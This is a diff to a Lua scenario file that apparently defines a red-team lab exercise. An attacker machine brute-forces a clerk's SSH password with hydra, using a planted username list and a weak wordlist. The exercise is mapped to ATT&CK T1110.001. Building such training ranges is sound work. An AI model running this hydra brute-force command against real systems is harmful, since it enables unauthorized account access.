@@ -77,7 +77,7 @@ return {
       team = "red", image = "attacker", memory = "192M",
       nics = { office = "10.20.1.66" },
       files = {
-        ["/root/users.txt"] = "admin\nclerk\n",
+        ["/root/users.txt"] = "clerk\nadmin\n",
         ["/root/words.txt"] = "123456\npassword\n" .. weak .. "\n",
       },
     },
@@ -114,8 +114,8 @@ return {
     guess = {
       title = "Guess the clerk's password",
       attack = { domain = "enterprise", version = "18.1", id = "T1110.001" },
-      from = "attacker", to = "web", needs = "recon", limit = "70s",
-      act = { { "hydra", "-I", "-t", "2", "-L", "/root/users.txt", "-P", "/root/words.txt",
+      from = "attacker", to = "web", needs = "recon", limit = "75s",
+      act = { { "hydra", "-I", "-f", "-t", "2", "-L", "/root/users.txt", "-P", "/root/words.txt",
                 "-o", "/root/creds-${team}.txt", "ssh://${to}" } },
       effect = { file = { on = "attacker", path = "/root/creds-${team}.txt",
                           contains = "login: clerk" } },
